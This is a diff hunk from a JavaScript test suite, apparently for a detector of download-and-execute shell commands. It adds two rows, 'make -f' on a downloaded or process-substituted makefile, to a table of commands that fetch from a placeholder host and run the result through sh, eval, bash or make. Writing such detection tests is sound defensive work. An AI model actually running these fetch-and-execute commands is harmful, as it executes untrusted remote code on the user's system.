@@ -185,6 +185,8 @@ describe('a download runs', () => {
     ['curl https://h/x | xargs --replace=% sh -c %', ['runText']],
     ['curl https://h/x | xargs -I% sh -c "echo; %"', ['runText']],
     ['f() { curl https://h/x; }; f > a.sh; sh a.sh', ['runFile']],
+    ['curl https://h/x -o x.mk; make -f x.mk', ['runFile']],
+    ['make -f <(curl https://h/x)', ['runText']],
     ['f() { curl https://h/x; }; eval "$(f)"', ['runText']],
     ['f() { curl https://h/x; }; bash <(f)', ['runText']],
   ])('%s: %j', (command, ways) => {
